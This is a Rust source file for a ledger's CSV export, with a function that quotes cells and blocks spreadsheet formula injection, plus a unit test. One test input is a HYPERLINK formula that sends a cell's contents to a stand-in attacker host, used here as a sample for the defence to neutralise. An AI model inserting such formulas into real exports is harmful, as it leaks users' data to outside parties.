//! The licence ledger as a spreadsheet reads it.

/// One cell of the ledger's CSV: quoted when it holds a comma, a quote or a line break, and
/// kept from being read as a formula by a spreadsheet (a leading `=`, `+`, `-`, `@`, tab or
/// carriage return gets a `'` before it, as OWASP advises).
pub fn csv_cell(text: &str) -> String {
    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_string()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ledger_cells_are_quoted_and_never_formulas() {
        let cases = [
            ("Ann Lee", "Ann Lee"),
            ("Lee, Ann", "\"Lee, Ann\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("a-b", "a-b"),
        ];
        for (text, cell) in cases {
            assert_eq!(csv_cell(text), cell, "{text}");
        }
    }
}
